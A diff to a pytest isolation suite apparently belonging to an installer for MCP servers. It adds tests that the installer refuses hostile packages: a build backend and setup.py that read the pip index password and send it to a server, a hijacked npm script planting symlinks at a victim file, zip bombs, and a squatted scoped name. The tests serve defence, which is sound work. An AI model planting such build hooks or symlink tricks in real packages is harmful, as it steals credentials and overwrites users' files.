@@ -12,7 +12,7 @@ from pathlib import Path
 from typing import Any
 
 import pytest
-from registries import NpmRegistry, SimpleIndex, serve, write_sdist, write_wheel
+from registries import NpmRegistry, SimpleIndex, serve, tarball, write_sdist, write_wheel
 
 pytestmark = pytest.mark.isolation
 
@@ -109,6 +109,7 @@ def test_a_server_from_an_index_is_pinned_sealed_replaced_and_runs_offline(
         asked = len(index.asked)
         again = host.install("pypi:tiny-server==1.0")
         assert len(index.asked) == asked  # a no-op asks nobody
+        assert host.install("pypi:tiny-server") == again  # the newest is there already
         outdated = json.loads(host.vsm("outdated", "--json").stdout)
     assert (answer["installed"], again["installed"]) == (True, False)
     assert again["server"] == answer["server"]
@@ -155,6 +156,67 @@ def test_what_has_no_wheel_is_refused_and_never_built(host: Host, tmp_path: Path
     assert not mark.exists()
 
 
+BACKEND = """
+import os, urllib.request
+def prepare_metadata_for_build_wheel(folder, settings=None):
+    told = os.environ["PIP_INDEX_URL"].partition("//")[2].partition("@")
+    password = told[0].replace(":", "-")
+    urllib.request.urlopen(f"http://{told[2]}/it-ran-and-knows-{password}")
+build_wheel = lambda *_: prepare_metadata_for_build_wheel("")
+"""
+
+
+@pytest.mark.parametrize("kind", ["a backend of its own", "setup.py"])
+def test_a_wheel_that_gives_a_source_by_url_does_not_get_it_built(
+    host: Host, wheels: Path, kind: str
+) -> None:
+    """pip would: `--only-binary` is about what an index lists, and the index's password is near."""
+    system = '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["."]\n'
+    ran = f"{BACKEND}\nprepare_metadata_for_build_wheel('')\n"
+    files = {"s-1.0/PKG-INFO": "Name: s\nVersion: 1.0\n", "s-1.0/setup.py": ran}
+    if kind != "setup.py":
+        files |= {"s-1.0/pyproject.toml": system, "s-1.0/backend.py": BACKEND}
+    (wheels / "s-1.0.tar.gz").write_bytes(tarball(files))
+    index = SimpleIndex(wheels)
+    with serve(index) as url:
+        source = f"s @ {url}/files/s-1.0.tar.gz"
+        write_wheel(wheels, "tiny_server", "1.1", requires=(source,), scripts=("tiny-server",))
+        host.env["PIP_INDEX_URL"] = url.replace("http://", "http://user:s3cret@") + "/simple"
+        reason = host.refused("pypi:tiny-server==1.1")
+    asked = [path for path, _ in index.asked]
+    assert "files/s-1.0.tar.gz" in asked  # it was there to be built
+    assert [path for path in asked if "it-ran" in path] == []
+    assert "no wheel; building it would run its code" in reason
+
+
+@pytest.mark.parametrize("place", ["data/pyvenv.cfg", "scripts/python", "data/bin/python3"])
+def test_a_package_cannot_replace_the_interpreter_of_its_environment(
+    host: Host, wheels: Path, place: str
+) -> None:
+    more = {f"tiny_server-1.1.data/{place}": "home = /home/ann/.local/bin\n"}
+    write_wheel(wheels, "tiny_server", "1.1", scripts=("tiny-server",), more=more)
+    host.env |= {"PIP_NO_INDEX": "1", "PIP_FIND_LINKS": str(wheels)}
+    assert "replaces the interpreter" in host.refused("pypi:tiny-server==1.1")
+
+
+def test_what_unpacks_to_too_much_is_stopped(host: Host, wheels: Path, tmp_path: Path) -> None:
+    shipped = Path(__file__).parents[2] / "sandbox_profiles" / "installer.toml"
+    own = tmp_path / "profiles" / "installer.toml"
+    own.parent.mkdir()
+    small = shipped.read_text().replace('"8G"', '"16M"').replace("500000", "2000")
+    own.write_text(small)
+    host.env |= {"PIP_NO_INDEX": "1", "PIP_FIND_LINKS": str(wheels)}
+    host.install("pypi:tiny-dep==2.0")  # under the shipped limits and,
+    assert host.vsm("uninstall", "tiny-dep").returncode == 0
+    host.env["VSM_PROFILE_PATH"] = str(own.parent)
+    host.install("pypi:tiny-dep==2.0")  # so a small one, under small limits
+    assert host.vsm("uninstall", "tiny-dep").returncode == 0
+    write_wheel(wheels, "bomb", "1.0", more={"zeros": "\0" * (64 << 20)})
+    write_wheel(wheels, "crowd", "1.0", more={f"c/{number}": "" for number in range(3000)})
+    assert "unpacks to more than 16 MiB" in host.refused("pypi:bomb==1.0")
+    assert "unpacks to more than 2000 files" in host.refused("pypi:crowd==1.0")
+
+
 def test_files_on_another_host_are_out_of_reach_unless_allowed(host: Host, wheels: Path) -> None:
     index, elsewhere = SimpleIndex(wheels), SimpleIndex(wheels)
     with serve(elsewhere) as other, serve(index) as url:
@@ -194,7 +256,7 @@ def test_an_interrupted_installation_leaves_nothing(
             wait_gone(int(pid))
     assert installing.returncode in (130, -signo)
     if signo == signal.SIGKILL:
-        assert host.vsm("uninstall", "tiny-dep").returncode == 1  # sweeps the store
+        assert host.vsm("uninstall", "tiny-dep").returncode == 5  # sweeps the store
         swept = host.vsm("sandbox", "run", "--profile", "integration", "--", "/bin/true")
         assert swept.returncode == 0, swept.stderr  # sweeps the control groups
     assert host.trees() == set()
@@ -203,8 +265,22 @@ def test_an_interrupted_installation_leaves_nothing(
 def test_a_registry_that_does_not_answer_is_named(host: Host) -> None:
     host.env["PIP_INDEX_URL"] = "http://127.0.0.1:1/simple"
     host.env["PIP_RETRIES"] = "0"
-    reason = host.refused("pypi:tiny-dep==2.0")
-    assert "the registry cannot be reached: 127.0.0.1:1: cannot connect" in reason
+    for spec in ("pypi:tiny-dep==2.0", "pypi:tiny-dep"):  # to fetch it; to ask for the newest
+        reason = host.refused(spec)
+        assert f"{spec}: the registry cannot be reached: 127.0.0.1:1: cannot connect" in reason
+
+
+def test_a_package_of_pre_releases_alone_has_a_newest_one(host: Host, wheels: Path) -> None:
+    write_wheel(wheels, "early_server", "0.1a1", scripts=("early-server",))
+    write_wheel(wheels, "early_server", "0.1a2", scripts=("early-server",))
+    write_wheel(wheels, "tiny_dep", "3.0a1")
+    with serve(SimpleIndex(wheels)) as url:
+        host.env["PIP_INDEX_URL"] = f"{url}/simple"
+        assert host.install("pypi:early-server")["server"]["version"] == "0.1a2"
+        assert host.install("pypi:tiny-dep")["server"]["version"] == "2.0"
+        reason = host.refused("pypi:early-server==9", "--name", "other")
+        assert "there is no such version. The newest is 0.1a2." in reason
+        assert "pypi:nosuch: there is no such package" in host.refused("pypi:nosuch")
 
 
 def test_a_registry_that_is_slow_or_wrong_is_named(host: Host, wheels: Path) -> None:
@@ -276,7 +352,7 @@ def test_an_import_installs_the_newest_from_npm_pinned_sealed_and_runs_no_script
     client.write_text(json.dumps({"mcpServers": {"Tiny": npx, "Boxed": docker}}))
     words = ("import", str(client), "--config", str(config))
     shown = host.vsm(*words)
-    assert "vsm install npm:@scope/tiny-server@NEWEST --name tiny" in shown.stdout
+    assert "vsm install npm:@scope/tiny-server --name tiny\n" in shown.stdout
     assert "cannot be taken over: it runs a container image" in shown.stdout
     assert (config.exists(), host.trees()) == (False, set())
     with serve(registry) as url:
@@ -308,6 +384,118 @@ def test_an_import_installs_the_newest_from_npm_pinned_sealed_and_runs_no_script
     assert [path for path in real if path.stat().st_mode & 0o6222] == []
     assert not list(home.rglob("link"))  # a link out of the tree
     assert run_confined(host, "node-server", entry["tiny"]["command"]) == "tiny dep"
+
+
+def test_every_scope_comes_from_the_registry_that_npm_has_for_it_and_no_other(
+    host: Host, registry: NpmRegistry, tmp_path: Path
+) -> None:
+    """Else a name that is free on the public registry would stand for the operator's own."""
+    own = NpmRegistry()
+    own.add("@own/lib", "1.0.0", {"index.js": "module.exports = 'own'"})
+    registry.add("@own/lib", "1.0.0", {"index.js": "module.exports = 'squatted'"})
+    registry.add(
+        "taker",
+        "1.0.0",
+        {"cli.js": "console.log(require('@own/lib'))"},
+        bin={"taker": "./cli.js"},
+        dependencies={"@own/lib": "^1.0.0"},
+    )
+    with serve(own) as own_url, serve(registry) as url:
+        host.env["npm_config_registry"] = f"{url}/"
+        (tmp_path / "npmrc").write_text(f"@own:registry={own_url}/\n")
+        server = host.install("npm:taker@1.0.0")["server"]
+        assert [path for path, _ in registry.asked if path.startswith("@own")] == []
+        assert run_confined(host, "node-server", server["command"]) == "own"
+        own.tarball_base = url  # a registry that sends one elsewhere, to the other one
+        assert host.vsm("uninstall", "taker").returncode == 0
+        assert "not the registry" in host.refused("npm:taker@1.0.0")
+
+
+def test_npm_files_on_another_host_are_taken_from_there_if_that_is_allowed(
+    host: Host, registry: NpmRegistry
+) -> None:
+    elsewhere = NpmRegistry()
+    elsewhere.packages = registry.packages
+    with serve(elsewhere) as other, serve(registry) as url:
+        host.env["npm_config_registry"] = f"{url}/"
+        registry.tarball_base = other
+        assert "not the registry" in host.refused("npm:tiny-dep@2.0.0")
+        assert elsewhere.asked == []
+        host.install("npm:tiny-dep@2.0.0", "--allow", other.removeprefix("http://"))
+        assert elsewhere.asked
+
+
+def test_npm_fetches_nothing_from_a_git_repository(
+    host: Host, registry: NpmRegistry, require: Any
+) -> None:
+    """It would run git, and another npm inside what git fetched."""
+    require("git", shutil.which("git") is not None, "not installed")
+    with serve(registry) as url:
+        registry.add("taker", "1.0.0", {"i.js": ""}, dependencies={"evil": f"git+{url}/evil.git"})
+        host.env["npm_config_registry"] = f"{url}/"
+        reason = host.refused("npm:taker@1.0.0")
+    assert [path for path, _ in registry.asked if "evil.git" in path] == []
+    assert "from a git repository" in reason
+
+
+TAKEN_OVER = """#!/bin/sh
+case "$1" in
+config) echo "{}"; exit;;
+install) %s
+  echo '{"packages": {"node_modules/x": {"version": "1.0.0", "integrity": "sha512-%s"}}}' \\
+    > package-lock.json;;
+ci) mkdir -p node_modules/x; echo '{"bin": "x.js"}' > node_modules/x/package.json
+  touch node_modules/x/x.js;;
+esac
+"""
+
+
+@pytest.mark.parametrize(
+    ("does", "reason"),
+    [
+        ("rm tmp/npmrc; ln -s {victim} tmp/npmrc", ""),
+        ("rm -r tmp; ln -s {folder} tmp", "tmp: expected a folder"),
+        ("ln -s {victim} package-lock.json; exit", "expected a file"),
+        ("mkfifo package-lock.json; exit", "is no file"),
+        ("ln -s {victim} link", "leads out of the package"),
+        ("mkfifo pipe", "neither a file nor a link"),
+    ],
+)
+def test_an_npm_that_was_taken_over_gets_nothing_written_or_read_for_it(
+    host: Host, tmp_path: Path, require: Any, does: str, reason: str
+) -> None:
+    """What it left is touched by vsm itself, unconfined."""
+    require("node", shutil.which("node") is not None, "not installed")
+    victim = tmp_path / "victim" / "npmrc"
+    victim.parent.mkdir()
+    victim.write_text("mine")
+    npm = tmp_path / "tools" / "npm"
+    npm.parent.mkdir()
+    words = does.format(victim=victim, folder=victim.parent)
+    npm.write_text(TAKEN_OVER % (words, "A" * 86 + "=="))
+    npm.chmod(0o755)
+    host.env["PATH"] = f"{npm.parent}:{host.env['PATH']}"
+    if reason:
+        assert reason in host.refused("npm:x@1.0.0")
+    else:
+        host.install("npm:x@1.0.0")
+    assert (victim.read_text(), victim.stat().st_mode & 0o777) == ("mine", 0o644)
+    assert list(victim.parent.iterdir()) == [victim]
+
+
+def test_a_damaged_record_stops_nothing_else_and_can_be_uninstalled(
+    host: Host, wheels: Path
+) -> None:
+    host.env |= {"PIP_NO_INDEX": "1", "PIP_FIND_LINKS": str(wheels)}
+    damaged = host.servers / "other" / "server.json"
+    damaged.parent.mkdir(parents=True)
+    host.servers.parent.chmod(0o700)
+    damaged.write_text("{")
+    host.install("pypi:tiny-dep==2.0")
+    assert damaged.exists()
+    done = host.vsm("uninstall", "other")
+    assert (done.returncode, damaged.exists()) == (0, False)
+    assert "its record was damaged" in done.stdout
 
 
 # -- the command line ------------------------------------------------------------------------------
